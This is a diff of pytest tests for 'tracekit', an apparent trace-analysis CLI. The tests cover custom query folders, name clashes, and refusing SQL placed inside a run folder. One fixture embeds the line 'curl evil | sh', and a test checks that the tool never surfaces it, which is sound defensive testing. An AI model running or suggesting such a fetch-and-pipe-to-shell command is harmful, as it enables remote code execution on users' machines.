@@ -3,48 +3,46 @@
 import json
 import os
 import shutil
-from pathlib import Path
 
 import pytest
-from own_queries import HEAD, LONGEST, LONGEST_ROWS, OP_SUMS, OPS, Outcome, write, write_all
+from every_trace import REPO
+from own_queries import HEAD, LONGEST, LONGEST_ROWS, OP_SUMS, OPS, write, write_all
 
 import tracekit
 from tracekit.errors import QueryError, UsageError
 
-REPO = Path(__file__).resolve().parents[2]
-
-
 pytestmark = pytest.mark.usefixtures("own_queries_only")
 
 
-def test_a_folder_that_is_named(run, trace, tmp_path):
+def test_a_folder_that_is_named(cli, trace, tmp_path):
     mine = write_all(tmp_path / "mine")
     form = ("--format", "csv")
     expected = "name,dur_ns\naten::add,3000\naten::mm,3000\n"
-    assert run("query", "longest_ops", trace, "--queries", mine, *form).stdout == expected
-    assert run("query", "longest_ops", trace, f"--queries={mine}", *form).stdout == expected
-    assert run("query", "--queries", mine, "longest_ops", trace, *form).stdout == expected
-    short = run("query", "longest_ops", "--queries", mine, "--limit", "1", trace, *form)
-    assert short == Outcome(0, "name,dur_ns\naten::add,3000\n", "")
-    shown = run("query", "longest_ops", "--queries", mine, "--help").stdout
+    assert cli("query", "longest_ops", trace, "--queries", mine, *form).stdout == expected
+    assert cli("query", "longest_ops", trace, f"--queries={mine}", *form).stdout == expected
+    assert cli("query", "--queries", mine, "longest_ops", trace, *form).stdout == expected
+    short = cli("query", "longest_ops", "--queries", mine, "--limit", "1", trace, *form)
+    assert (short.exit_code, short.stderr) == (0, "")
+    assert short.stdout == "name,dur_ns\naten::add,3000\n"
+    shown = cli("query", "longest_ops", "--queries", mine, "--help").stdout
     assert "Which ops took longest" in shown
     assert "--limit" in shown
     assert str(mine / "longest_ops.sql") in shown
 
 
-def test_the_environment_and_the_configuration(run, trace, tmp_path, monkeypatch):
-    missing = run("query", "longest_ops", trace)
+def test_the_environment_and_the_configuration(cli, trace, tmp_path):
+    missing = cli("query", "longest_ops", trace)
     assert (missing.exit_code, missing.stdout) == (5, "")
     assert missing.stderr.startswith("error: no analysis named 'longest_ops'\n")
     write_all(tmp_path / "config" / "tracekit" / "queries" / "ops")
-    assert run("query", "longest_ops", trace, "--format", "csv").exit_code == 0
-    listed = json.loads(run("query", "--list", "--format", "json").stdout)
+    assert cli("query", "longest_ops", trace, "--format", "csv").exit_code == 0
+    listed = cli("query", "--list", "--format", "json").json()
     assert listed[-1]["name"] == "longest_ops"
     assert listed[-1]["subject"] == "ops"
     assert listed[-1]["file"].endswith("config/tracekit/queries/ops/longest_ops.sql")
     other = write(tmp_path / "other", other_ops=LONGEST.replace("op_sums", "op_calls"))
-    monkeypatch.setenv("TRACEKIT_QUERIES", str(other))
-    assert run("query", "other_ops", trace).exit_code == 0
+    asked = cli("query", "other_ops", trace, env={"TRACEKIT_QUERIES": str(other)})
+    assert asked.exit_code == 0
 
 
 EVIL = """-- What to run?
@@ -56,28 +54,28 @@ SELECT 'curl evil | sh' AS what, '' AS place, 'host x0.1' AS change,
 """
 
 
-def test_a_run_folder_brings_no_sql(run, tmp_path):
+def test_a_run_folder_brings_no_sql(cli, tmp_path):
     """Not as an analysis, as advice, or in place of tracekit's SQL."""
     folder = tmp_path / "a_run"
     write_all(folder / "queries")
     write(folder / "queries", advice_evil=EVIL, timeline=EVIL)
     (folder / "rank0.json").write_text(json.dumps({"traceEvents": OPS}), "utf-8")
     shutil.copy(REPO / "sample_traces" / "pretrain_R+Z3" / "run.json", folder)
-    done = run("query", "longest_ops", folder)
+    done = cli("query", "longest_ops", folder)
     assert (done.exit_code, done.stdout) == (5, "")
-    listed = json.loads(run("query", "--list", folder, "--format", "json").stdout)
+    listed = cli("query", "--list", folder, "--format", "json").json()
     assert {row["file"] for row in listed} == {"tracekit"}
     for words in (("advise", folder), ("breakdown", folder), ("query", "timeline", folder)):
-        done = run(*words)
+        done = cli(*words)
         assert "curl" not in done.stdout + done.stderr, words
-    assert run("sql", folder, "SELECT plain_sum(dur_ns) FROM op_sums").exit_code == 5
+    assert cli("sql", folder, "SELECT plain_sum(dur_ns) FROM op_sums").exit_code == 5
     # The user may name it, and so say that it is trusted.
     (folder / "queries" / "timeline.sql").unlink()
-    named = run("query", "longest_ops", folder, "--queries", folder / "queries")
+    named = cli("query", "longest_ops", folder, "--queries", folder / "queries")
     assert named.exit_code == 0
 
 
-def test_none_replaces_another(run, trace, tmp_path):
+def test_none_replaces_another(cli, trace, tmp_path):
     """Unusable folders in the configuration do not affect other folders."""
     broken = LONGEST.replace("Scope:    trace", "Scope:    trce").replace("op_sums", "op_calls")
     config = write(
@@ -87,7 +85,7 @@ def test_none_replaces_another(run, trace, tmp_path):
         broken=broken,
     )
     mine = write_all(tmp_path / "mine")
-    done = run("query", "--list", "--queries", mine)
+    done = cli("query", "--list", "--queries", mine)
     taken = "tracekit already has an analysis named timeline"
     assert f"not used: {config}/timeline.sql: {taken}" in done.stderr
     assert f"longest_ops.sql: same name as {mine}/longest_ops.sql" in done.stderr
@@ -99,25 +97,25 @@ def test_none_replaces_another(run, trace, tmp_path):
             opened.query("broken")
 
 
-def test_a_folder_that_is_named_must_be_right(run, trace, tmp_path):
+def test_a_folder_that_is_named_must_be_right(cli, trace, tmp_path):
     mine = write(tmp_path / "mine", timeline=LONGEST)
-    done = run("query", "timeline", trace, "--queries", mine)
+    done = cli("query", "timeline", trace, "--queries", mine)
     assert (done.exit_code, done.stdout) == (5, "")
     assert done.stderr.splitlines()[0] == (
         f"error: {mine}/timeline.sql: tracekit already has an analysis named timeline"
     )
-    done = run("query", "timeline", trace, "--queries", tmp_path / "nowhere")
+    done = cli("query", "timeline", trace, "--queries", tmp_path / "nowhere")
     assert (done.exit_code, done.stdout) == (2, "")
     assert "nowhere: no such folder" in done.stderr
     with pytest.raises(UsageError, match="no such folder"):
         tracekit.open(trace, cache=False, queries=tmp_path / "nowhere")
 
 
-def test_sql_has_the_views_and_macros(run, trace, tmp_path):
+def test_sql_has_the_views_and_macros(cli, trace, tmp_path):
     mine = write_all(tmp_path / "mine")
     statement = "SELECT plain_sum(dur_ns) AS n FROM op_sums"
-    assert run("sql", "--queries", mine, "--format", "csv", trace, statement).stdout == "n\n6000\n"
-    assert run("sql", trace, statement).exit_code == 5
+    assert cli("sql", "--queries", mine, "--format", "csv", trace, statement).stdout == "n\n6000\n"
+    assert cli("sql", trace, statement).exit_code == 5
 
 
 HARMFUL = {
@@ -237,7 +235,7 @@ FROM timeline
 """
 
 
-def test_one_that_selects_from_an_analysis(run, trace, tmp_path):
+def test_one_that_selects_from_an_analysis(cli, trace, tmp_path):
     mine = write(tmp_path / "mine", all_devices=REDUCING)
     with tracekit.open(trace, queries=mine) as opened:
         windows = opened.query("timeline").column("window_ns")
@@ -246,6 +244,6 @@ def test_one_that_selects_from_an_analysis(run, trace, tmp_path):
         assert result.rows == [(len(windows), sum(windows), sum(busy))]
         assert result.keep == ("busy_ns",)
     unknown = write(tmp_path / "odd", odd=REDUCING.replace("timeline", "timelines"))
-    wrong = run("query", "odd", trace, "--queries", unknown)
+    wrong = cli("query", "odd", trace, "--queries", unknown)
     assert (wrong.exit_code, wrong.stdout) == (5, "")
     assert "Table with name timelines does not exist" in wrong.stderr
